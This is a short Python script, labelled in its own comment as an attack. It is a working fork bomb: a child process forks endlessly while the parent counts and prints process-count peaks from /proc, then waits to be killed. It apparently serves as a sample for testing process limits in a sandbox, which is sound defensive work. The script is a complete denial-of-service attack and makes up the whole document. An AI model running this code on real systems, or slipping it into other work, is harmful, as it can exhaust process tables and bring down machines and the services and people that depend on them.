# Attack: a fork bomb in Python. The first child bombs (every process forks forever, catching
# the errors); the parent counts the box's processes in /proc for a moment, printing each new
# peak as "peak N", then waits to be killed.
import os
import time

if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            pass

peak = 0
end = time.monotonic() + 0.3
while time.monotonic() < end:
    try:
        n = sum(1 for d in os.listdir("/proc") if d.isdigit())
    except OSError:
        continue
    if n > peak:
        peak = n
        print("peak", peak, flush=True)
while True:
    time.sleep(1)
